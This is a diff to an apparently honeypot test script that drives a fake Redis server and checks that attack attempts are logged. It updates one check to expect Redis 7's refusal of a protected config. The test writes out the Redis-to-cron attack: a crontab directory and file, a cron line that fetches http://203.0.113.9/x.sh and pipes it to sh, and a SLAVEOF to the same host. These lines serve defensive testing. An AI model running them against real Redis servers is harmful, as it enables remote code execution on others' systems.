@@ -85,7 +85,8 @@ redis-cli -h "$DB" -p "$(p 6379)" --no-auth-warning -a wrongpw ping 2>&1 | grep 
 expect_log "redis AUTH capture" 'db01 redis - auth_attempt' 'password="wrongpw"' 'success="false"'
 RC="redis-cli -h $DB -p $(p 6379) --no-auth-warning -a Redis-Pass-2024"
 $RC info server | grep -q "redis_version:7.0.15" || fail "redis INFO"
-$RC config set dir /var/spool/cron/crontabs | grep -q OK || fail "redis CONFIG SET"
+# Redis 7 refuses the protected configs; the attempt is still recorded.
+$RC config set dir /var/spool/cron/crontabs | grep -q "can't set protected config" || fail "redis CONFIG SET"
 $RC config set dbfilename root >/dev/null
 $RC set x "* * * * * curl -s http://203.0.113.9/x.sh | sh" >/dev/null
 $RC slaveof 203.0.113.9 8886 | grep -q OK || fail "redis SLAVEOF"
